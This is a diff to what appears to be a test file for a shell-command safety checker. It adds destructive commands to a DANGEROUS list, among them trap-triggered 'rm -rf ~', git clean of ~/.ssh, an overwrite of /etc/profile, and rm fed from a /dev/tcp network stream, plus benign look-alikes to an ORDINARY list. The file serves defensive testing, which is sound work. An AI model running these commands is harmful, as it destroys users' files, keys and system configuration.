@@ -77,6 +77,12 @@ DANGEROUS = [
     ("rm -rf /proc/1/root/tmp/x", {}),
     ("echo x > /proc/1/root/etc/profile", {}),
     ("rm -rf " + "/x" * 3000, {}),
+    ("trap 'rm -rf ~' EXIT", {}),
+    ("git -C ~ -C .ssh clean -fdx", {}),
+    ("HOME=/; echo x > ~/etc/profile", {}),
+    ("xargs rm -rf < /dev/tcp/example.com/80", {}),
+    ("cat /dev/stdin | xargs rm -rf", {}),
+    ('cd ~ && rm -rf "$PWD"', {}),
 ]
 
 ORDINARY = [
@@ -101,6 +107,8 @@ ORDINARY = [
     ("git -c color.ui=never status", {}),
     ("rm -rf ~/.cache/pip", {}),
     ("printf 'a\\nb\\n' > list.txt", {}),
+    ("trap 'rm -rf \"$tmp\"' EXIT", {}),
+    ("git -C a -C b status", {}),
 ]
 
 
